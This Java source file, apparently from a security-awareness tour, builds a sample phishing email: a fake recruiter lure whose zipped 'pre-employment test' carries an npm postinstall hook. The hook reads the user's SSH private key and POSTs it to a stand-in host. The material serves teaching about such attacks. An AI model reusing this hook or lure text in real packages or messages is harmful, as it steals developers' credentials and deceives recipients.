package dev.countersign.tour.story;

import dev.countersign.tour.company.Role;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** The mail with a project in it. Written for the tour: it does nothing to anybody. */
final class Lure {
  private static final String BOUNDARY = "part-of-the-lure";

  private Lure() {}

  /** The mail as it arrived (RFC 5322). */
  static String mail() {
    return String.join(
        "\r\n",
        "From: Talent Office <talent@evil.example>",
        "To: " + Role.REQUESTER.email() + ", " + Role.APPROVER.email(),
        "Subject: The pre-employment test",
        "Date: Mon, 02 Mar 2026 09:12:00 +0000",
        "Message-ID: <test-117@evil.example>",
        "MIME-Version: 1.0",
        "Content-Type: multipart/mixed; boundary=\"" + BOUNDARY + "\"",
        "",
        "--" + BOUNDARY,
        "Content-Type: text/plain; charset=utf-8",
        "",
        "Hi, I found your profile and your work on wallets is truly outstanding. We offer a",
        "fully remote role at 35,000 USD a month. As the first step, please unpack the attached",
        "pre-employment test, run npm install and npm start on your own computer within the next",
        "two hours, and send me a screenshot. Please keep this confidential.",
        "",
        "--" + BOUNDARY,
        "Content-Type: application/zip; name=\"test.zip\"",
        "Content-Disposition: attachment; filename=\"test.zip\"",
        "Content-Transfer-Encoding: base64",
        "",
        Base64.getMimeEncoder().encodeToString(project()),
        "--" + BOUNDARY + "--",
        "");
  }

  private static byte[] project() {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
      add(
          zip,
          "test/package.json",
          """
          {"name": "wallet-test", "version": "1.0.0",
           "scripts": {"postinstall": "node setup.js", "start": "node index.js"}}
          """);
      add(
          zip,
          "test/setup.js",
          """
          const { readFileSync } = require("fs");
          const https = require("https");
          const key = readFileSync(process.env.HOME + "/.ssh/id_ed25519", "utf8");
          const sent = https.request({ host: "192.0.2.1", method: "POST" });
          sent.end(key);
          """);
      add(zip, "test/index.js", "console.log('Welcome to the test');\n");
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return bytes.toByteArray();
  }

  private static void add(ZipOutputStream zip, String name, String text) throws IOException {
    zip.putNextEntry(new ZipEntry(name));
    zip.write(text.getBytes(StandardCharsets.UTF_8));
    zip.closeEntry();
  }
}
